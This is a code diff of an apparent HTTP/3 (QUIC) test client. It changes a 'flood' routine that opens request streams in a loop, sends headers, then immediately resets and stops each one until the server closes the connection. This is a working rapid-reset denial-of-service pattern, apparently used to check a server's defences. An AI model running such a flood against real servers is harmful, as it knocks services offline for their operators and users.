@@ -109,14 +109,14 @@ class Client(QuicConnectionProtocol):
     async def flood(self, authority):
         fields = [[":method", "GET"], [":scheme", "https"], [":authority", authority], [":path", "/open/flood"]]
         while not self.ended.done():
-            for _ in range(32):
-                stream = self._quic.get_next_available_stream_id()
-                try:
-                    self._quic.send_stream_data(stream, self.block(stream, fields))
-                    self._quic.reset_stream(stream, 0x10C)
-                    self._quic.stop_stream(stream, 0x10C)
-                except Exception:
-                    break
+            stream = self._quic.get_next_available_stream_id()
+            self._quic.send_stream_data(stream, self.block(stream, fields))
+            self.transmit()
+            # The library resets streams that it may not open yet, which is another fault.
+            while self._quic._streams_blocked_bidi and not self.ended.done():
+                await asyncio.sleep(0.001)
+            self._quic.reset_stream(stream, 0x10C)
+            self._quic.stop_stream(stream, 0x10C)
             self.transmit()
             await asyncio.sleep(0)
         return {"closed": self.ended.result()}
